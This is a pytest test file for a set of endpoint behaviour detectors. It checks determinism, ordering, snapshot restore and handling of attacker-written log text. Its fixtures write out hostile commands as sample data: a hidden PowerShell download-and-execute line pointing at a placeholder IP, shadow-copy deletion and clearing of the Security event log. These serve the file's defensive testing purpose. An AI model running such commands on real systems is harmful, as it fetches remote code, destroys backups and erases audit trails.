"""What holds of all detectors of endpoints: order, old rows, hostile texts, whole signs, snapshots."""

from __future__ import annotations

import random
import string
from types import ModuleType
from typing import Any

import pytest

from tests.detect.behaviour.account_rows import tell
from tests.detect.behaviour.endpoint_rows import OFFICE, POWERSHELL, SYSTEM32, autorun, beat, start, tamper, touched
from tocsin.detect.behaviour import command_line, destruction, first_seen, rare_ancestry, silence, snapshot
from tocsin.detect.behaviour.contract import Sign

DETECTORS = (rare_ancestry, command_line, first_seen, silence, destruction)
each = pytest.mark.parametrize("detector", DETECTORS, ids=lambda one: one.NAME)
IMAGES = (
    f"{OFFICE}WINWORD.EXE",
    POWERSHELL,
    f"{SYSTEM32}svchost.exe",
    "C:\\Users\\Public\\svchost.exe",
    f"{SYSTEM32}cmd.exe",
)
LINES = (
    "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
    "cmd /c dir",
    "vssadmin delete shadows /all /quiet",
    "wevtutil cl Security",
    "net stop sqlserver",
    "svchost.exe -k netsvcs",
)


def row_of(rng: random.Random, minutes: float) -> Any:
    """Make a row of any kind, of few machines."""
    host = f"pc-{rng.randrange(4)}"
    return rng.choice(
        (
            lambda: start(
                minutes,
                rng.choice(IMAGES),
                rng.choice(LINES),
                rng.choice(IMAGES),
                host,
                digest=f"{rng.randrange(9):064x}",
            ),
            lambda: autorun(
                minutes,
                rng.choice(("service", "task", "wmi", "runkey")),
                f"n{rng.randrange(9)}",
                rng.choice(LINES),
                host,
            ),
            lambda: tamper(minutes, rng.choice(("cleared", "stopped", "disabled", "off", "catalog")), "Security", host),
            lambda: touched(minutes, f"D:\\d{rng.randrange(9)}\\a{rng.randrange(999)}.docx.k7", host=host),
            lambda: beat(minutes // 5 * 5, host, rng.choice(("windows.sysmon", "windows.security"))),
        )
    )()


def stream(seed: int, number: int = 2_000, spread: float = 5_000) -> list[Any]:
    rng = random.Random(seed)
    return [row_of(rng, minutes) for minutes in sorted(rng.uniform(0, spread) for _ in range(number))]


def told(signs: list[Sign]) -> list[tuple[Any, ...]]:
    return [(s.time_us, s.last_us, round(s.decades, 9), s.message, tuple(s.facts.items()), s.entities) for s in signs]


@each
def test_the_same_rows_give_the_same_signs(detector: ModuleType) -> None:
    rows = stream(1)
    assert told(tell(detector, rows)) == told(tell(detector, rows))


@each
def test_the_order_of_equal_times_changes_nothing(detector: ModuleType) -> None:
    rows = [row_of(random.Random(n), n // 40) for n in range(1_200)]
    shuffled = list(rows)
    rng = random.Random(3)
    for begin in range(0, len(rows), 40):
        part = shuffled[begin : begin + 40]
        rng.shuffle(part)
        shuffled[begin : begin + 40] = part
    assert told(tell(detector, rows, batch=400)) == told(tell(detector, shuffled, batch=400))


@each
def test_time_that_goes_backwards(detector: ModuleType) -> None:
    rows = stream(2)
    random.Random(5).shuffle(rows)
    for sign in tell(detector, rows, batch=100):
        assert sign.time_us <= sign.last_us


@each
def test_a_memory_written_and_read_back_goes_on_as_if_nothing_had_been(detector: ModuleType) -> None:
    rows = stream(8, 2_000)
    whole, before = detector.memory(), detector.memory()
    first = [told(tell(detector, rows[:1_000], memory)) for memory in (whole, before)]
    after = snapshot.load(snapshot.dump(before), detector.memory)
    assert first[0] == first[1]
    assert snapshot.dump(after) == snapshot.dump(whole)
    assert told(tell(detector, rows[1_000:], after)) == told(tell(detector, rows[1_000:], whole))


@each
def test_the_end_told_twice_says_nothing_new(detector: ModuleType) -> None:
    memory = detector.memory()
    tell(detector, stream(4), memory)
    assert list(detector.finish(memory)) == []


@each
def test_any_text_is_a_name(detector: ModuleType) -> None:
    """Log text is written by attackers: braces, markup, control characters, surrogates, very long lines."""
    rng = random.Random(6)
    letters = string.printable + "{}<>\0\u202e\ud800é\\/\\"
    rows = []
    for n in range(600):
        words = ["".join(rng.choice(letters) for _ in range(rng.choice((0, 3, 40, 400)))) for _ in range(12)]
        row = row_of(rng, n)
        rows.append(
            row._replace(
                **{
                    f: words[i]
                    for i, f in enumerate(row._fields)
                    if isinstance(row[i], str) and f not in {"kind", "action"}
                }
            )
        )
    for sign in tell(detector, rows):
        sign.message.format(**sign.facts)


@each
def test_signs_are_whole(detector: ModuleType) -> None:
    for sign in tell(detector, stream(7, 4_000)):
        assert 0 <= sign.decades <= 4
        assert 0 < len(sign.events) <= 20
        assert sign.techniques
        sign.message.format(**sign.facts)


@each
def test_it_says_what_it_sees_and_misses(detector: ModuleType) -> None:
    for part in ("Sees:", "Misses:", "Benign when:", "Source:"):
        assert part in (detector.__doc__ or "")
